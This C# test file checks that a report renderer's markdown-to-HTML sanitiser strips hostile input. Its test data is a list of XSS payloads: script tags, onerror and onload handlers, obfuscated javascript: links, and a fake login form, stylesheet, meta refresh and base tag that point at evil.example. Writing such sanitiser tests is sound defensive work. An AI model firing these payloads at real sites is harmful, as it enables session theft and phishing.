using WorkReports.Tests.Support;

namespace WorkReports.Tests.Content;

public sealed class HostileMarkdownTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<ScRiPt src=//evil.example/x.js></sCrIpT>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg onload=alert(1)><script>alert(1)</script></svg>")]
    [InlineData("<math><mtext><script>alert(1)</script></mtext></math>")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
    [InlineData("<object data=x></object><embed src=x>")]
    [InlineData("<a href=\"javascript:alert(1)\">甲</a>")]
    [InlineData("<a href=\"java&#10;script:alert(1)\">甲</a>")]
    [InlineData("[甲](javascript:alert(1))")]
    [InlineData("[甲](java\tscript:alert(1))")]
    [InlineData("[甲](&#106;avascript:alert(1))")]
    [InlineData("[甲](vbscript:x)")]
    [InlineData("![甲](data:image/svg+xml;base64,PHN2Zz4=)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[甲]: javascript:alert(1)\n\n[甲]")]
    [InlineData("正文{onclick=alert(1)}")]
    [InlineData("# 标题 {onclick=alert(1)}\n\n正文")]
    [InlineData("<div style=\"position:fixed;inset:0\">甲</div>")]
    [InlineData("<style>body{display:none}</style>")]
    [InlineData("<link rel=stylesheet href=//evil.example/x.css>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=//evil.example\">")]
    [InlineData("<base href=\"//evil.example/\">")]
    [InlineData("<form action=//evil.example><input name=password><button>登录</button></form>")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>")]
    [InlineData("<div class=\"reach skip\" id=\"page-main\">甲</div>")]
    [InlineData("<img src=\"https://evil.example/pixel.png\">")]
    public void What_is_hostile_does_not_reach_the_page(string markdown)
    {
        // Text is harmless; what counts is what a browser would make of it.
        var page = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(Reading.Report(markdown).Html);
        var forbidden = "script, style, iframe, object, embed, svg, math, link, meta, base, form, input, button, template, noscript, [style], [id='page-main'], .reach, .skip";
        Assert.Empty(page.Body!.QuerySelectorAll(forbidden));
        foreach (var element in page.Body.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.Attributes, attribute => attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
            foreach (var address in new[] { element.GetAttribute("href"), element.GetAttribute("src") }.OfType<string>())
                Assert.Matches("^(https?:|mailto:|tel:|/(?!/)|#)", address);
            if (element.LocalName == "img") Assert.StartsWith("/files/", element.GetAttribute("src"));
        }
    }

    [Fact]
    public void The_words_inside_a_forbidden_tag_are_kept_but_scripts_are_not()
    {
        var report = Reading.Report("<font color=red>红字</font><script>alert(1)</script>");
        Assert.Contains("红字", report.Text);
        Assert.DoesNotContain("alert", report.Text);
    }
}
